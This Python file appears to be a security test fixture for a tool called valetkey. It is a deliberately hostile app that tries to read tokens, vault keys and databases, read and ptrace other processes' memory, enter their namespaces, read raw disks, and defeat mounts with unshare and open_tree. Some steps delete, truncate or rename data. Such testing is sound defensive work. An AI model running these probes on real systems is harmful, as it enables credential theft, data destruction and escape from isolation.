"""A hostile app. Runs under `valetkey run` as the same user as everything it attacks; prints what it got as JSON. What is
not there, or refused, is an empty answer."""
import ctypes
import json
import os
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import urllib.error
import urllib.request

told = json.load(sys.stdin)
data, victim, pids = told['data'], told['victim'], told['pids']
libc = ctypes.CDLL(None, use_errno=True)
got = {}


def attempt(name, fn):
    try:
        r = fn()
    except (OSError, ValueError, subprocess.SubprocessError) as e:
        r = None
        print(f'{name}: {e}', file=sys.stderr)
    if r:
        got[name] = repr(r)[:200]


def read(path):
    with open(path, 'rb') as f:
        return f.read(200)


# Files, by name and by every other way to them.
for name in ('', '/builds', '/vault', '/builds/victim', '/tmp', '/tls'):
    attempt(f'list {name or "data"}', lambda: os.listdir(data + name))
for name in ('/admin.token', '/metrics.token', '/vault/master', '/valetkey.db', '/valetkey.db-wal', '/builds/victim/database.db', '/lock'):
    attempt(f'read {name}', lambda: read(data + name))
attempt('read key', lambda: read(told['key']))
# What leaves traces is tried behind the fence only.
def harm(name, fn):
    if told['fenced']:
        attempt(name, fn)


harm('write into data', lambda: open(data + '/evil', 'wb').write(b'x'))
harm('truncate metadata', lambda: os.truncate(data + '/valetkey.db', 0) is None)
harm('remove metadata', lambda: os.unlink(data + '/valetkey.db') is None)
harm('rename vault', lambda: os.rename(data + '/vault', data + '/gone') is None)
harm('rename data', lambda: os.rename(data, data + '.gone') is None)
harm('link key', lambda: os.link(told['key'], told['key'] + '.copy') is None and read(told['key'] + '.copy'))
harm('link metadata', lambda: os.link(data + '/valetkey.db', os.path.dirname(data) + '/copy') is None)
if told['hidden']:
    for name in ('/builds/victim', '/admin.sock', '/vault'):
        attempt(f'stat {name}', lambda: os.stat(data + name))
    harm('open data to all', lambda: os.chmod(data + '/builds', 0o777) is None)

# Other processes: ours, another build's app, and one of the user's that has nothing to do with valetkey.
for who, pid in pids.items():
    for what in ('environ', 'mem', 'maps', 'auxv', 'syscall'):
        attempt(f'{what} of {who}', lambda: read(f'/proc/{pid}/{what}') if what != 'mem' else os.pread(os.open(f'/proc/{pid}/mem', os.O_RDONLY), 1, 0x400000) or 1)
    attempt(f'descriptors of {who}', lambda: os.readlink(f'/proc/{pid}/fd/0'))
    attempt(f'root of {who}', lambda: read(f'/proc/{pid}/root{told["key"]}'))
    attempt(f'folder of {who}', lambda: os.listdir(f'/proc/{pid}/cwd'))
    attempt(f'namespace of {who}', lambda: libc.setns(os.open(f'/proc/{pid}/ns/mnt', os.O_RDONLY), 0) == 0)
    harm(f'trace {who}', lambda: libc.ptrace(0x4206, pid, 0, 0) == 0)  # SEIZE
    harm(f'attach to {who}', lambda: libc.ptrace(16, pid, 0, 0) == 0)
    buffer = ctypes.create_string_buffer(8)
    local, remote = struct.pack('QQ', ctypes.addressof(buffer), 8), struct.pack('QQ', 0x400000, 8)
    libc.process_vm_readv(pid, local, 1, remote, 1, 0)
    attempt(f'memory of {who}', lambda: ctypes.get_errno() != 1)  # EPERM; another errno: the kernel had let us in
    attempt(f'signal {who}', lambda: os.kill(pid, 0) is None)

# The disk below it, as root.
for name in os.listdir('/sys/class/block'):
    if not os.path.exists(f'/dev/{name}'):
        continue
    if os.geteuid() == 0 and stat.S_ISBLK(os.stat(f'/dev/{name}').st_mode):
        harm(f'disk {name}', lambda: read(f'/dev/{name}'))
if told['fenced']:
    attempt('a disk of one\'s own making', lambda: os.mknod(told['scratch'] + '/disk', 0o600 | stat.S_IFBLK, os.stat(told['scratch']).st_dev) is None and read(told['scratch'] + '/disk'))

# The admin API, without the token.
s = socket.socket(socket.AF_UNIX)
attempt('token by admin.sock', lambda: s.connect(data + '/admin.sock') or s.sendall(b'GET /api/v1/builds HTTP/1.1\r\nHost: localhost\r\n\r\n') or b'victim' in s.recv(4096))


def admin(token):
    q = urllib.request.Request(f'http://127.0.0.1:{told["port"]}/api/v1/builds', headers={'Authorization': f'Bearer {token}'} if token else {})
    try:
        return urllib.request.urlopen(q, timeout=10).read()
    except urllib.error.HTTPError as e:
        if e.code != 401:
            return e.code


attempt('builds without a token', lambda: admin(''))
attempt('builds with the valet key', lambda: admin(os.environ['TURSO_AUTH_TOKEN']))
attempt('builds by our own program', lambda: subprocess.run([told['bin'], 'build', 'list', '--data', data], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=20).stdout)

# Taking the covers off, with all rights that a namespace of one's own gives.
INSIDE = r'''
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
data, key, at = sys.argv[1:4]
def look(what, d):
    try:
        if 'admin.token' in os.listdir(d): print(what)
    except OSError: pass
for flags in (0, 2, 8): libc.umount2(data.encode(), flags); libc.umount2(key.encode(), flags)
look('umount', data)
libc.mount(os.path.dirname(data).encode(), at.encode(), None, 4096, None)
look('bind', at + '/' + os.path.basename(data))
libc.mount(b'o', at.encode(), b'overlay', 0, ('lowerdir=' + os.path.dirname(data) + ':/usr').encode())
look('overlay', at + '/' + os.path.basename(data))
libc.mount(data.encode(), at.encode(), None, 4096, None)
look('bind data', at)
libc.mount(None, data.encode(), None, 32 | 4096, None)
look('remount', data)
fd = libc.syscall(428, -100, os.path.dirname(data).encode(), 1)  # open_tree, a clone without what lies on it
if fd >= 0:
    look('open_tree', f'/proc/self/fd/{fd}/' + os.path.basename(data))
    os.close(fd)
try:
    if b'base64' in open(key, 'rb').read() or len(open(key, 'rb').read()) > 10: print('key')
except OSError: pass
while libc.umount2(at.encode(), 2) == 0: pass
'''
with tempfile.TemporaryDirectory() as at:
    for how in (['unshare', '-Urm'], ['unshare', '-m'], []):
        harm(f'taking covers off by {" ".join(how)}', lambda: subprocess.run([*how, sys.executable, '-c', INSIDE, data, told['key'], at], stdout=subprocess.PIPE,
                                                                               stderr=subprocess.DEVNULL, timeout=20).stdout)
attempt('root by a set-uid program', lambda: os.geteuid() != 0 and subprocess.run(['su', '-c', 'id'], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                                                                   timeout=20).stdout)
json.dump(got, sys.stdout)
